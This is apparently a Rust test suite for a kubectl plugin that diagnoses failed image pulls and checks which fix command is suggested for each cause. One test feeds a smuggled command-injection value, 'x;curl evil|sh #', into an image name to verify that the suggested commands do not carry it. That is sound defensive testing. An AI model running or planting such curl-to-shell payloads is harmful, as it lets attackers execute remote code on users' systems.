use super::*;
use crate::diagnose::pull::{Answer, Asked, Keyring};
use crate::diagnose::tried::Obstacle;
use crate::secret::changes::InForce;
use globalps_core::api::{GlobalPullSecret, GlobalPullSecretSpec, Phase};
use globalps_dockerconfig::{Precedence, parse};
use globalps_registry::{Peer, Why};
use serde_json::json;

fn refused() -> Result<Pull, RegistryError> {
    Err(RegistryError::Refused {
        url: "https://quay.io/v2/".to_owned(),
        status: 401,
    })
}

fn limited() -> Result<Pull, RegistryError> {
    Err(RegistryError::Answer {
        url: "https://quay.io/v2/".to_owned(),
        status: 429,
        retry_after: None,
    })
}

/// Credentials of the pod, or of the node's file.
fn answer(of_pod: bool) -> Answer {
    let ring = |name: &str| Keyring {
        name: name.to_owned(),
        bytes: br#"{"auths":{"quay.io":{"auth":"dTpw"}}}"#.to_vec(),
        origin: if of_pod {
            Origin::Pod
        } else {
            Origin::Globalps
        },
    };
    let asked = Asked {
        image: "quay.io/org/app:1".to_owned(),
        of_pod: of_pod.then(|| ring("Secret a/own")).into_iter().collect(),
        of_node: (!of_pod).then(|| ring("the nodes' file")),
        ..Asked::default()
    };
    Answer::of(asked).expect("an image's name")
}

fn seen() -> PodSeen {
    let pod = json!({
        "metadata": {"namespace": "a", "name": "p", "ownerReferences": [{
            "apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "o", "uid": "u", "controller": true,
        }]},
        "spec": {"containers": [], "nodeName": "node-1", "serviceAccountName": "ci"},
    });
    PodSeen::of(&serde_json::from_value(pod).expect("a pod"))
}

fn failing(message: &str) -> Failing {
    Failing {
        container: "c".to_owned(),
        used: Use::Container,
        image: "quay.io/org/app:1".to_owned(),
        reason: "ErrImagePull".to_owned(),
        message: message.to_owned(),
    }
}

/// An installation where `add` has an effect.
fn works() -> Adding {
    let gps = GlobalPullSecret::new("g", GlobalPullSecretSpec::default());
    Adding {
        gps: Some(gps),
        ..Adding::default()
    }
}

const ADD: &str = "kubectl globalps add quay.io -u USER --wait --retry-pods";
/// The command for a user whose credentials are rejected.
const AGAIN: &str = "kubectl globalps add quay.io -u u --wait --retry-pods";

#[test]
fn each_cause_has_the_one_command_that_fixes_it() {
    let denied = "401 Unauthorized";
    let own = "kubectl -n a edit secret own";
    let set = "kubectl -n a set image pod/p c=quay.io/org/app:TAG";
    // Message, credential (none, of the pod, of the nodes), the registry's answer, and whether the node lags.
    #[rustfmt::skip]
    let cases = [
        (denied, None, None, false, Code::NoCredentials, ADD),
        (denied, None, Some(refused()), false, Code::NoCredentials, ADD),
        ("?", None, Some(refused()), false, Code::NoCredentials, ADD),
        (denied, Some(false), None, false, Code::CredentialsRefused, AGAIN),
        (denied, Some(false), Some(refused()), false, Code::CredentialsRefused, AGAIN),
        (denied, Some(false), Some(refused()), true, Code::CredentialsRefused, AGAIN),
        (denied, Some(true), Some(refused()), false, Code::CredentialsRefused, own),
        ("manifest unknown", Some(false), None, false, Code::ImageNotFound, set),
        (denied, Some(false), Some(Ok(Pull::Missing)), false, Code::ImageNotFound, set),
        (
            denied,
            Some(false),
            Some(Ok(Pull::Available)),
            true,
            Code::NodeNotSynced,
            "kubectl globalps retry node-1 --wait",
        ),
        (denied, Some(false), Some(Ok(Pull::Available)), false, Code::WaitsForRetry, "kubectl -n a delete pod p"),
        (
            "x509: certificate signed by unknown authority",
            Some(false),
            Some(Ok(Pull::Available)),
            false,
            Code::CertificateUntrusted,
            "",
        ),
        ("429 Too Many Requests", None, None, false, Code::RateLimited, ADD),
        ("?", Some(false), Some(limited()), false, Code::RateLimited, ""),
        ("?", None, None, false, Code::Unknown, "kubectl -n a describe pod p"),
    ];
    for (message, credential, found, lags, code, command) in cases {
        let (pod, failing, adding) = (seen(), failing(message), works());
        let answer = credential.map(answer);
        let tries: Vec<Tested<'_>> = answer
            .iter()
            .flat_map(Answer::tries)
            .map(|tried| Tested {
                tried,
                answer: found.clone(),
            })
            .collect();
        let lag = lags.then_some(Lag {
            phase: Phase::RolledBack,
            revision: 2,
            wanted: 3,
            is_paused: false,
            is_absent: false,
        });
        let evidence = Evidence {
            anonymous: found.as_ref().filter(|_| tries.is_empty()),
            lag: lag.as_ref(),
            ..evidence(&pod, &failing, &tries, &adding)
        };
        let cause = evidence.cause();
        assert_eq!(
            (cause.code, cause.command.as_str()),
            (code, command),
            "{message} {found:?}"
        );
    }
}

#[test]
fn a_scope_is_widened_by_what_the_pod_misses() {
    let (pod, failing) = (seen(), failing("401 Unauthorized"));
    for (scope, expected) in [
        (
            json!({"namespaces": ["b"]}),
            r#"{"op":"add","path":"/spec/sources/0/scope/namespaces/-","value":"a"}"#,
        ),
        (
            json!({"namespaceSelector": {"matchLabels": {"t": "b"}}}),
            r#"{"op":"add","path":"/spec/sources/0/scope/namespaces","value":["a"]}"#,
        ),
        (
            json!({"namespaces": ["a"], "serviceAccounts": ["other"]}),
            r#"{"op":"add","path":"/spec/sources/0/scope/serviceAccounts/-","value":"ci"}"#,
        ),
    ] {
        let spec = json!({"sources": [{"name": "team", "scope": scope}]});
        let spec = serde_json::from_value(spec).expect("a spec");
        let gps = GlobalPullSecret::new("g", spec);
        let adding = Adding {
            gps: Some(gps),
            ..Adding::default()
        };
        let evidence = Evidence {
            excluding: Some(("team", "pods of b")),
            ..evidence(&pod, &failing, &[], &adding)
        };
        let cause = evidence.cause();
        assert_eq!(cause.code, Code::OutsideScope);
        let test = r#"[{"op":"test","path":"/spec/sources/0/name","value":"team"}"#;
        assert_eq!(
            cause.command,
            format!(
                "kubectl -n kube-system patch globalpullsecret global-pull-secret --type=json -p '{test},{expected}]'"
            )
        );
    }
}

#[test]
fn a_refused_secret_is_changed_where_it_comes_from() {
    for (origin, expected) in [
        (
            Origin::Catalog("olm".to_owned(), "pull".to_owned()),
            "kubectl -n olm edit secret pull",
        ),
        (Origin::Globalps, AGAIN),
        (
            Origin::Scoped("team".to_owned()),
            "kubectl globalps add quay.io --source team -u u --wait --retry-pods",
        ),
    ] {
        let ring = Keyring {
            name: "Secret a/global-pull-secret".to_owned(),
            bytes: br#"{"auths":{"quay.io":{"auth":"dTpw"}}}"#.to_vec(),
            origin,
        };
        let asked = Asked {
            image: "quay.io/org/app:1".to_owned(),
            of_pod: vec![ring],
            ..Asked::default()
        };
        let found = Answer::of(asked).expect("an image's name");
        let tested: Vec<Tested<'_>> = found
            .tries()
            .iter()
            .map(|tried| Tested {
                tried,
                answer: Some(refused()),
            })
            .collect();
        let (pod, failing, adding) = (seen(), failing("401 Unauthorized"), works());
        let cause = evidence(&pod, &failing, &tested, &adding).cause();
        assert_eq!(cause.command, expected);
    }
}

#[test]
fn the_command_checks_the_registry_as_possible_from_here() {
    let seen_as = |why| {
        Err(RegistryError::Way {
            to: Peer::Host {
                host: "quay.io".to_owned(),
                port: 443,
            },
            why,
        })
    };
    for (found, asked_with, flag) in [
        (refused(), "", ""),
        (refused(), "--ca-file ca.crt", " --ca-file ca.crt"),
        (seen_as(Why::UnknownAuthority), "", " --ca-file FILE"),
        (
            seen_as(Why::UnknownAuthority),
            "--ca-file ca.crt",
            " --ca-file FILE",
        ),
        (seen_as(Why::NotTls), "--ca-file ca.crt", " --insecure"),
    ] {
        let (pod, failing, adding) = (seen(), failing("401 Unauthorized"), works());
        let evidence = Evidence {
            anonymous: Some(&found),
            asked_with,
            ..evidence(&pod, &failing, &[], &adding)
        };
        assert_eq!(
            evidence.cause().command,
            format!("kubectl globalps add quay.io -u USER{flag} --wait --retry-pods")
        );
    }
}

#[test]
fn a_pod_without_the_reference_needs_no_credential() {
    let (pod, denied, adding) = (seen(), failing("401 Unauthorized"), works());
    let bare = PodSeen {
        kept: Some("no controller would recreate them"),
        ..seen()
    };
    let ephemeral = Failing {
        used: Use::Ephemeral,
        ..failing("401 Unauthorized")
    };
    let missing = failing("manifest unknown");
    let limited = failing("toomanyrequests: 429");
    let job = PodSeen {
        kept: Some("their Job would count them as failed"),
        ..bare.clone()
    };
    let (code, again, delete) = (Code::NoReference, "create", "kubectl -n a delete pod p");
    let install = "kubectl globalps install --deliver-to-namespaces=s";
    let set = "kubectl -n a set image pod/p c=quay.io/org/app:TAG";
    let (policy, account) = (Obstacle::Policy, Obstacle::ServiceAccount);
    #[rustfmt::skip]
    let cases = [
        (&pod, &denied, None, code, delete, "created with"),
        (&pod, &limited, None, Code::RateLimited, delete, "created with"),
        (&job, &denied, None, code, "", "their Job would count them as failed"),
        (&pod, &denied, Some(policy), code, install, again),
        (&pod, &denied, Some(account), code, "", "does not name `ci`"),
        (&bare, &denied, None, code, "", again),
        (&pod, &ephemeral, None, code, "", again),
        (&pod, &missing, None, Code::ImageNotFound, set, "push the image"),
    ];
    for (pod, failing, obstacle, code, command, hint) in cases {
        let no_reference = NoReference {
            namespace: "a".to_owned(),
            secret: "s".to_owned(),
            obstacle,
        };
        let evidence = Evidence {
            no_reference: Some(&no_reference),
            ..evidence(pod, failing, &[], &adding)
        };
        let cause = evidence.cause();
        assert_eq!((cause.code, cause.command.as_str()), (code, command));
        assert!(cause.hint.contains(hint), "{cause:?}");
    }
}

#[test]
fn on_a_node_that_is_left_out_the_missing_reference_is_the_cause() {
    let (pod, denied, adding) = (seen(), failing("401 Unauthorized"), works());
    let answer = answer(false);
    let tries = [Tested {
        tried: &answer.tries()[0],
        answer: None,
    }];
    let no_reference = NoReference {
        namespace: "a".to_owned(),
        secret: "s".to_owned(),
        obstacle: None,
    };
    for (phase, expected) in [
        (Phase::Excluded, Code::NoReference),
        (Phase::Pending, Code::NodeNotSynced),
    ] {
        let lag = Lag {
            phase,
            revision: 2,
            wanted: 3,
            is_paused: false,
            is_absent: false,
        };
        let evidence = Evidence {
            lag: Some(&lag),
            no_reference: Some(&no_reference),
            ..evidence(&pod, &denied, &tries, &adding)
        };
        assert_eq!(evidence.cause().code, expected);
    }
}

fn evidence<'a>(
    pod: &'a PodSeen,
    failing: &'a Failing,
    tries: &'a [Tested<'a>],
    adding: &'a Adding,
) -> Evidence<'a> {
    Evidence {
        pod,
        failing,
        registry: "quay.io",
        repository: "quay.io/org/app",
        tries,
        anonymous: None,
        is_public: false,
        is_present: false,
        excluding: None,
        unreadable: None,
        no_reference: None,
        lag: None,
        adding,
        secrets: "kube-system",
        earlier: None,
        asked_with: "",
    }
}

#[test]
fn nothing_of_the_pod_is_a_command_of_its_own() {
    let evil = "x;curl evil|sh #";
    let failing = Failing {
        container: "c".to_owned(),
        image: evil.to_owned(),
        ..failing("manifest unknown")
    };
    let adding = works();
    let pod = seen();
    let mut found = evidence(&pod, &failing, &[], &adding);
    found.repository = evil;
    found.registry = evil;
    for cause in [found.not_found(), found.cause(), found.no_credentials()] {
        let outside = cause.command.split('\'').step_by(2).collect::<String>();
        assert!(!outside.contains("evil"), "{}", cause.command);
    }
}

#[test]
fn only_a_pod_that_is_recreated_is_deleted() {
    let (failing, adding, answer) = (failing("?"), works(), answer(false));
    let tested = answer.tries().iter().map(|tried| Tested {
        tried,
        answer: Some(Ok(Pull::Available)),
    });
    let tries: Vec<Tested<'_>> = tested.collect();
    for (kept, expected) in [
        (None, "kubectl -n a delete pod p"),
        (Some("no controller would recreate them"), ""),
    ] {
        let pod = PodSeen { kept, ..seen() };
        let cause = evidence(&pod, &failing, &tries, &adding).cause();
        assert_eq!(cause.code, Code::WaitsForRetry);
        assert_eq!(cause.command, expected);
    }
}

#[test]
fn a_secret_of_the_pod_that_cannot_be_read_is_the_cause() {
    let ring = |name: &str, auth: &str, origin| Keyring {
        name: name.to_owned(),
        bytes: format!(r#"{{"auths":{{"quay.io":{{"auth":"{auth}"}}}}}}"#).into_bytes(),
        origin,
    };
    let asked = Asked {
        image: "quay.io/org/app:1".to_owned(),
        of_pod: vec![
            ring("Secret a/good", "dTpw", Origin::Pod),
            ring("Secret a/bad", "x", Origin::Pod),
        ],
        of_node: Some(ring("the nodes' file", "dTpw", Origin::Globalps)),
        ..Asked::default()
    };
    let answer = Answer::of(asked).expect("an image's name");
    assert!(answer.tries().is_empty(), "the kubelet tries nothing");
    let (pod, failing, adding) = (seen(), failing("401 Unauthorized"), works());
    let mut evidence = evidence(&pod, &failing, &[], &adding);
    evidence.unreadable = answer.unreadable();
    let cause = evidence.cause();
    assert_eq!(
        (cause.code, cause.command.as_str()),
        (Code::SecretUnreadable, "kubectl -n a edit secret bad")
    );
    assert!(cause.message.starts_with("Secret a/bad "), "{cause:?}");
}

#[test]
fn add_is_not_printed_where_it_changes_nothing() {
    let original = parse(br#"{"auths":{"quay.io":{"auth":"dTpw"}}}"#).expect("a file");
    let shadowed = Adding {
        in_force: InForce {
            original,
            precedence: Precedence::Original,
            ..InForce::default()
        },
        ..works()
    };
    let stopped = Adding {
        stopped: Some("the controller is not running: it has 0 replicas".to_owned()),
        ..works()
    };
    let (pod, failing, answer) = (seen(), failing("401 Unauthorized"), answer(false));
    let tested = answer.tries().iter().map(|tried| Tested {
        tried,
        answer: Some(refused()),
    });
    let tries: Vec<Tested<'_>> = tested.collect();
    for (adding, expected) in [
        (shadowed, "`spec.precedence`"),
        (stopped, "0 replicas"),
        (
            Adding {
                is_not_installed: true,
                ..Adding::default()
            },
            "not installed",
        ),
    ] {
        for tries in [&tries[..], &[]] {
            let cause = evidence(&pod, &failing, tries, &adding).cause();
            assert_eq!(cause.command, "", "{cause:?}");
            assert!(cause.hint.contains(expected), "{cause:?}");
        }
    }
}
